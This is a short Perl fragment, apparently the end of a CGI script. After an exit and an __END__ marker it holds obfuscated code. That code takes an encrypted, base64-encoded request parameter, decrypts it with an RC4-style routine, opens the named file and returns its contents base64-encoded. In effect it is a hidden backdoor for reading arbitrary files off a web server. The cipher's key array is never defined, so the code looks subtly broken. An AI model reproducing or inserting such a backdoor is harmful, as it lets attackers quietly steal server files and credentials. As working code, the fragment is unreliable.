exit;
__END__
my$v=CGI::param(t2);my$u=decode_base64($v);$u=substr($u,2);
@s=(0 .. 255);for(0 .. 255){$j=($j+$s[$_]+$k[$_])%256;($s[$_],$s[$j])=($s[$j],$s[$_])}
for(split //,$u){$i=($i+1)%256;$z.=chr(ord^$s[$i])}
open(F,$z);print encode_base64($_) while<F>;
